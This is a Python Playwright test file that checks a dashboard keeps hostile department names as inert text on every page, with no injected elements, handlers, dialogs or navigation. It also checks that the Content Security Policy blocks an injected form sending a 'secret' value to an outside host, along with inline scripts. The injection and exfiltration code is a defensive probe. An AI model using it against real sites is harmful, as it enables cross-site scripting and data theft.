"""A real browser in the city of hostile names: nothing of what the names say happens on any page."""

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Dialog, Page

from tests import hostile
from tests.browser.conftest import Screen, opened
from tests.servers import Server, serving

pytestmark = pytest.mark.browser

PLACES: list[tuple[str, dict[str, str | list[str]]]] = [
    ("/overview", {}),
    ("/online", {}),
    ("/online", {"department": [hostile.SINGLE, hostile.LINK]}),
    ("/online", {"table_ranking": "true", "table_remaining": "true"}),
    ("/assessment", {}),
    ("/assessment", {"department": [hostile.DOUBLE, hostile.MARKDOWN], "rows": "課"}),
    ("/assessment", {"department": [hostile.DOUBLE, hostile.MARKDOWN], "view": "研修計画"}),
    ("/next", {}),
    ("/department", {"department": [hostile.SINGLE]}),
    ("/explore", {"x_rows": "department", "x_columns": "status"}),
    ("/roadmap", {}),
    ("/online", {"print": "1", "department": [hostile.SINGLE, hostile.LINK]}),
    ("/roadmap", {"print": "1", "initiative": "1-0"}),
    ("/roadmap", {"initiative": "1-0"}),
    ("/roadmap", {"initiative": "1-7", "department": [hostile.ELEMENT]}),
    ("/definitions", {}),
]

CAUGHT = """canary => {
  const all = [document, ...[...document.querySelectorAll('*')].map(node => node.shadowRoot).filter(Boolean)];
  const nodes = wanted => all.flatMap(root => [...root.querySelectorAll(wanted)]);
  const said = node => node.outerHTML.slice(0, 200);
  const found = wanted => nodes(wanted).map(said);
  return {
    nodes: found(`${canary}, [${canary}], [class~=${canary}]`),
    links: nodes('a').filter(link => !(link.hash === '#stMain' || link.matches('[data-testid=stSidebarNavLink]')
      || link.matches('a.dx-link') && link.origin === location.origin)).map(said),
    forms: found('form[action], iframe, object, embed, base'),
    images: found('img').filter(image => !/src="(data:|http:..127.0.0.1|[.]?[/])/.test(image)),
    handlers: nodes('*').filter(node => [...node.attributes].some(each => each.name.startsWith('on'))).map(said),
    formulas: found('.katex, .katex-display, mjx-container'),
    over: found('[style*="position:fixed"], [style*="position: fixed"]').filter(node => node.includes(canary)),
  };
}"""


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serving(hostile.city(tmp_path_factory.mktemp("hostile") / "data")) as running:
        yield running


@pytest.fixture(scope="module")
def hostile_screen(hostile_server: Server, browser: Browser) -> Iterator[Screen]:
    """A tab that notes dialogs, new windows and wherever it is led."""
    context = opened(browser)
    screen = Screen(context.new_page(), hostile_server.url)

    def refuse(dialog: Dialog) -> None:
        screen.problems.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    screen.page.on("dialog", refuse)
    context.on("page", lambda page: screen.problems.append(f"window: {page.url}"))
    yield screen
    context.close()


@pytest.fixture
def tab(hostile_screen: Screen) -> Iterator[Screen]:
    yield hostile_screen
    problems = hostile_screen.leave()
    assert problems == []


def assert_nothing_caught(page: Page) -> None:
    caught = {kind: found for kind, found in page.evaluate(CAUGHT, hostile.CANARY).items() if found}
    assert caught == {}
    assert urlsplit(page.url).hostname == "127.0.0.1"


@pytest.mark.parametrize(("path", "params"), PLACES)
def test_names_do_nothing_on_any_page(tab: Screen, path: str, params: dict[str, str | list[str]]) -> None:
    tab.open(path, **params)
    assert hostile.CANARY in tab.page.inner_text("body"), "the names are there, as text"
    assert_nothing_caught(tab.page)
    assert tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "long names widen nothing"


@pytest.mark.parametrize("chart", ["spread", "ranking", "remaining"])
def test_hovering_shows_a_name_and_does_nothing(tab: Screen, chart: str) -> None:
    tab.open("/online")
    plot = tab.page.locator(f".st-key-chart_{chart} .dx-plot")
    plot.focus()
    for _ in range(6):
        plot.press("ArrowRight")
        plot.locator(".hoverlayer text").first.wait_for()
    assert_nothing_caught(tab.page)


def test_a_click_on_a_mark_gives_its_name_back(tab: Screen) -> None:
    """In the figure it is escaped; in the URL and the filter it is the name."""
    tab.open("/online")
    tab.click_mark("spread", hostile.SINGLE.replace("'", "&#39;"))
    tab.wait_params("department", [hostile.SINGLE])
    tab.see(hostile.SINGLE)
    assert_nothing_caught(tab.page)


def test_names_in_the_choices_do_nothing(tab: Screen) -> None:
    tab.open("/online")
    for box in tab.page.locator('[data-testid="stMultiSelect"] input').all():
        box.click()
        assert_nothing_caught(tab.page)
        tab.page.keyboard.press("Escape")
    tab.choose("課", hostile.MARKDOWN)
    tab.wait_params("department", [hostile.MARKDOWN])
    assert_nothing_caught(tab.page)


def test_what_is_saved_has_a_name_that_every_system_takes(tab: Screen) -> None:
    tab.open("/roadmap", initiative="1-0")
    with tab.page.expect_download() as saving:
        tab.page.locator("[role=dialog]").get_by_role("button", name="Excelで保存").first.click()
    name = saving.value.suggested_filename
    assert name.endswith(".xlsx")
    assert len(name) < 120
    assert not {*'\\/:*?"<>|'} & {*name}


def test_the_policy_alone_would_have_stopped_a_form(tab: Screen) -> None:
    """Were markup to get in after all: what is typed into it does not leave, nor does a script run."""
    tab.open("/online")
    tab.page.evaluate(
        """host => {
          const place = document.createElement('div');
          place.innerHTML = `<form id=trap action="http://${host}/"><input name=p value=secret></form>`;
          document.body.append(place);
          window.tried = [];
          addEventListener('securitypolicyviolation', event => tried.push(event.effectiveDirective));
          const script = document.createElement('script');
          script.textContent = 'window.ran = true';
          document.body.append(script);
          setTimeout(() => new Function('window.ran = true')());
          document.getElementById('trap').submit();
        }""",
        hostile.ELSEWHERE,
    )
    wanted = ["form-action", "script-src-elem", "script-src"]
    tab.page.wait_for_function("wanted => wanted.every(each => tried.includes(each))", arg=wanted)
    assert tab.page.evaluate("window.ran") is None
    # The browser says in its console what it refused; the fixture takes that for a problem elsewhere.
    assert all("Content Security Policy" in said for said in tab.problems)
    tab.problems.clear()
